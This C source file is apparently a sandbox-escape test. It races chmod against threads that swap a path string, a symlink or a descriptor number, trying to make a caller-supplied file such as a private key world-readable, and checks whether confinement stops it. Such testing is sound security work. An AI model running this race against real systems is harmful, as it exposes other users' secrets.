/*
 * Changes the rights of a file of its own while a second thread puts the caller's in its place: in
 * the text of the path, behind a link, behind a descriptor's number.
 *
 * Would gain: a private key that everybody can read, if whoever looks at the path reads it before
 * the kernel does.
 */
#include "inside.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>

enum { TRIES = 700, OWN_MODE = 0640, STOLEN_MODE = 0666, NUMBER = 9 };

static char mine[500] = "mine", foreign[500], text[500] = "mine", by_number[40];
static atomic_bool is_over;
static int own_fd, foreign_fd;

/* Each state stays for a while of changing length, so that both are met at every stage. */
static void pause_for(unsigned round)
{
	for (volatile unsigned spin = 0; spin < round * 37 % 20000; spin++)
		;
}

static void *swap_text(void *unused)
{
	for (unsigned round = 0; !is_over; round++) {
		memcpy(text, round % 2 ? mine : foreign, sizeof text);
		atomic_thread_fence(memory_order_seq_cst);
		pause_for(round);
	}
	return unused;
}

static void *swap_link(void *unused)
{
	for (unsigned round = 0; !is_over; round++) {
		syscall(SYS_renameat2, AT_FDCWD, "mine", AT_FDCWD, "link", 2 /* exchange */);
		pause_for(round);
	}
	return unused;
}

static void *swap_number(void *unused)
{
	for (unsigned round = 0; !is_over; round++) {
		dup2(round % 2 ? own_fd : foreign_fd, NUMBER);
		pause_for(round);
	}
	return unused;
}

/* How often the file that was meant really got the rights: a race that reaches nothing is none. */
static int race(void *(*swap)(void *), const char *path)
{
	pthread_t thread;
	int reached = 0;

	is_over = false;
	if (pthread_create(&thread, NULL, swap, NULL) != 0)
		exit(1);
	for (int i = 0; i < TRIES; i++) {
		struct stat st;

		fchmod(own_fd, OWN_MODE);
		chmod(path, STOLEN_MODE);
		reached += fstat(own_fd, &st) == 0 && (st.st_mode & 0777) == STOLEN_MODE;
	}
	is_over = true;
	pthread_join(thread, NULL);
	return reached;
}

static bool is_stolen(void)
{
	struct stat st;

	errno = EACCES;
	return stat(foreign, &st) == 0 && (st.st_mode & 0777) == STOLEN_MODE;
}

int main(int argc, char **argv)
{
	int reached;

	if (argc < 2)
		return 1;
	snprintf(foreign, sizeof foreign, "%s", argv[1]);
	snprintf(by_number, sizeof by_number, "/proc/self/fd/%d", NUMBER);
	own_fd = open("mine", O_RDONLY | O_CLOEXEC);
	foreign_fd = open(foreign, O_PATH | O_CLOEXEC);
	CONTROL("a link was made", symlink(foreign, "link"));
	dup2(own_fd, NUMBER);
	reached = race(swap_text, text);
	CONTROL("a text: some were our own", reached > 0 ? 0 : -1);
	ATTEMPT("a text: the caller's", is_stolen() ? 0 : -1);
	reached = race(swap_link, "mine");
	CONTROL("a link: some were our own", reached > 0 ? 0 : -1);
	ATTEMPT("a link: the caller's", is_stolen() ? 0 : -1);
	reached = race(swap_number, by_number);
	CONTROL("a number: some were our own", reached > 0 ? 0 : -1);
	ATTEMPT("a number: the caller's", is_stolen() ? 0 : -1);
	return done();
}
